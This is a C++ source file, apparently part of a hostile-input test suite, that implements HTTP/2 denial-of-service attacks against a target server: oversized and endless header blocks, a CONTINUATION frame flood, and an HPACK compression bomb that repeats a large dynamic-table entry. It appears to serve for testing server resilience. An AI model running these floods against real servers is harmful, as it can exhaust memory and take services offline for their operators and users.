// SPDX-License-Identifier: Apache-2.0
// Headers that are large, or become large.
#include <algorithm>

#include "absl/strings/str_cat.h"
#include "tests/hostile/attack.h"
#include "tests/hostile/http2_peer.h"

namespace provisioning {
namespace {

constexpr std::int64_t mebibyte = 1 << 20;
constexpr absl::Duration answer_max = absl::Seconds(20);
// A header's value of it just fits the table of 4,096 bytes that a peer keeps.
constexpr std::size_t kept_value_bytes = 3900;

// Begins a call's headers with `beginning`, and goes on with `more` again and again
// until they have `bytes`, or the server takes no more. They never end.
std::string NeverEndingHeaders(const AttackOrders& orders, std::int64_t bytes,
                               const std::string& beginning, const std::string& more) {
  Http2Peer peer(orders.target, orders.tls, true);
  // So that the limit is known, and acknowledged, before the headers.
  if (!peer.IsAnswered(answer_max)) return "sent=0";
  std::int64_t sent = 0;
  if (peer.Send(Frame(FrameType::kHeaders, 0, 1, CallHeaders(attacked_method) + beginning))) {
    while (sent < bytes && peer.Send(Frame(FrameType::kContinuation, 0, 1, more))) {
      sent += static_cast<std::int64_t>(more.size());
    }
  }
  return absl::StrCat("sent=", sent, " go_aways=", peer.counts().go_aways,
                      " closed=", peer.is_gone() ? 1 : 0);
}

// As many as fit.
std::string HeadersOf(std::size_t bytes_max) {
  std::string headers;
  while (headers.size() + 1010 < bytes_max) {
    headers += HpackHeader("x", std::string(1000, 'a'));
  }
  return headers;
}

}  // namespace

std::string GiantHeader(const AttackOrders& orders) {
  const std::int64_t bytes = orders.count * mebibyte;
  const std::string beginning = HpackInteger(0, 4, 0) + HpackString("x") +
                                HpackInteger(0, 7, static_cast<std::uint64_t>(2 * bytes));
  return NeverEndingHeaders(orders, bytes, beginning, std::string(frame_bytes_max, 'a'));
}

std::string ManyHeaders(const AttackOrders& orders) {
  return NeverEndingHeaders(orders, orders.count * mebibyte, "", HeadersOf(frame_bytes_max));
}

std::string ContinuationFlood(const AttackOrders& orders) {
  return NeverEndingHeaders(orders, orders.count * mebibyte, "", HeadersOf(4 << 10));
}

std::string HpackBomb(const AttackOrders& orders) {
  constexpr char first_kept = static_cast<char>(0xBE);  // Index 62, RFC 7541, 6.1.
  Http2Peer peer(orders.target, orders.tls, true);
  const std::string kept = HpackKeptHeader("x", std::string(kept_value_bytes, 'a'));
  std::int64_t sent = 0;
  for (; sent < orders.count; ++sent) {
    std::string headers = CallHeaders(attacked_method) + (sent == 0 ? kept : "");
    headers.resize(frame_bytes_max, first_kept);
    const auto stream = static_cast<std::uint32_t>(2 * sent + 1);
    if (!peer.Send(Frame(FrameType::kHeaders, flag_end_headers, stream, headers))) break;
  }
  const bool is_answered = peer.IsAnswered(answer_max);
  return absl::StrCat("sent=", sent, " reset=", peer.counts().streams_reset,
                      " answers=", peer.counts().answers, " still_answered=", is_answered ? 1 : 0);
}

}  // namespace provisioning
